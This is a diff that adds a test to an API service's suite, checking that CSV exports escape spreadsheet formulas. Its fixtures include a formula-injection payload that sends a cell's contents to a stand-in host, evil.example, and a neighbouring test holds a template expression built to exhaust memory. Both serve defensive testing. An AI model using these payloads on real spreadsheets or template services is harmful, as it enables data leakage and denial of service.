@@ -152,6 +152,22 @@ def test_export_streams_the_complete_history_as_csv_or_ndjson(api, domain):
     assert api.get(base, format="xml").status_code == 422
 
 
+def test_the_csv_export_keeps_upstream_text_from_running_as_a_spreadsheet_formula(api, domain):
+    ann = _ready_contact(api, domain)
+    names = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+2", "-2+3", "@SUM(A1)", "orderPlaced"]
+    events = [{"eventId": f"csv-{uuid.uuid4()}", "type": "activity", "occurredAt": "2026-11-01T10:00:00Z",
+               "contact": {"email": "ann@example.com"}, "data": {"name": name, "properties": {}}} for name in names]
+    accepted = api.post(f"/v1/domains/{domain}/events", json={"events": events})
+    assert accepted.status_code == 202 and accepted.json()["rejected"] == [], accepted.text
+
+    base = f"/v1/domains/{domain}/contacts/{ann['id']}/activity/export"
+    rows = list(csv.DictReader(io.StringIO(api.get(base, format="csv").text)))
+    summaries = [r["summary"] for r in rows if r["type"] == "activity"]
+    assert sorted(summaries) == sorted(["'" + name for name in names[:-1]] + ["orderPlaced"])
+    exported = [json.loads(line) for line in api.get(base, format="ndjson").text.splitlines()]
+    assert sorted(e["summary"] for e in exported if e["type"] == "activity") == sorted(names)  # data, not a sheet
+
+
 def test_a_template_that_would_exhaust_memory_is_refused_at_send_and_the_service_goes_on(api, domain):
     ann = _ready_contact(api, domain)
     bomb = api.approved_template(domain, body="{{ 'x'.ljust(2000000000) }}")
